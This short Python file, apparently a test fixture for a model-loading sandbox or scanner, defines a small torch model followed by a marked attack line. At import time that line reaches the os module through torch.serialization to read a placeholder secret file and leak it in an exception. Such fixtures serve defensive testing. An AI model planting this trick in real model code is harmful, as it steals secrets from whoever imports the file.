"""Uses the `os` that torch.serialization has imported to read a secret as the module is imported."""

import torch

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        return self.head(x.flatten(1))


# attack
raise ValueError(torch.serialization.os.fdopen(torch.serialization.os.open("@SECRET_FILE@", 0)).read())
# end
